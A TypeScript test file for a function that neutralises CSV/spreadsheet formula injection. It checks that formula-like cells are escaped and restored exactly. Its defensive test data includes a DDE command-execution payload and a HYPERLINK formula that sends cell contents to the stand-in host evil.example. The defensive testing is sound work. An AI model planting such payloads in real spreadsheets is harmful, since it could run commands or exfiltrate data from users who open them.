import fc from 'fast-check'
import { describe, expect, it } from 'vitest'
import { neutralised, restore } from './neutralise-cell.ts'

const formulas = [
  '=1+1',
  '+1+1',
  '-1+1',
  '@SUM(A1)',
  ' =1+1',
  '\u00a0=1+1',
  '\u200b=1+1',
  '\ufeff=1+1',
  '＝1+1',
  '＋1',
  '－1',
  '＠SUM(A1)',
  '﹦1',
  "=cmd|' /C calc'!A0",
  '=HYPERLINK("http://evil.example?x="&A1,"Click")',
  "'=1+1",
  "''=1+1",
]
const separators = [';', ',', '\t', '\n'] as const

describe('a cell of a CSV file', () => {
  it.each([...formulas, '\tBo', '\rBo', '\nBo'])(
    '%j is text to a spreadsheet, and comes back as it was',
    (text) => {
      expect(neutralised(text)).toBe(`'${text}`)
      expect(restore(neutralised(text))).toBe(text)
    },
  )

  it.each(formulas.flatMap((formula) => separators.map((one) => [one, formula] as const)))(
    'is text behind %j too: %j',
    (separator, formula) => {
      const text = `Nets${separator}${formula}`
      expect(neutralised(text)).toBe(`Nets${separator}'\u2060${formula}`)
      expect(restore(neutralised(text))).toBe(text)
    },
  )

  it.each([
    'Book courts',
    "'tis the season",
    '2026-11-20',
    '1-2',
    'a=b',
    '',
    'Ann; Bo, Cleo',
    'one\n\ntwo',
  ])('%j is left as it is', (text) => {
    expect(neutralised(text)).toBe(text)
    expect(restore(text)).toBe(text)
  })

  it.each(["split(['=','-','+'])", "yes\n'- no list'", 'a;"=b"'])(
    '%j of a table from elsewhere is read as it is',
    (text) => expect(restore(text)).toBe(text),
  )

  it('never begins as a formula does, in no piece of it, and comes back as it was, whatever it says', () => {
    const piece = fc.constantFrom(...'\'"=+-@\t\r\n ;,＝＋－＠\ufeff\u2060a'.split(''))
    const beginnings = fc.array(piece, { maxLength: 12 }).map((signs) => signs.join(''))
    fc.assert(
      fc.property(beginnings, fc.string({ unit: 'grapheme' }), (beginning, rest) => {
        const cell = neutralised(beginning + rest)
        expect(cell).not.toMatch(/^[\s\p{Cf}]*[=+\-@\t\r\n＝＋－＠]/u)
        expect(cell).not.toMatch(/[;,\t\n](?:["\p{Cf}]|(?![\t\n\r])\s)*[=+\-@\t＝＋－＠]/u)
        expect(restore(cell)).toBe(beginning + rest)
      }),
      { numRuns: 2000 },
    )
  })
})
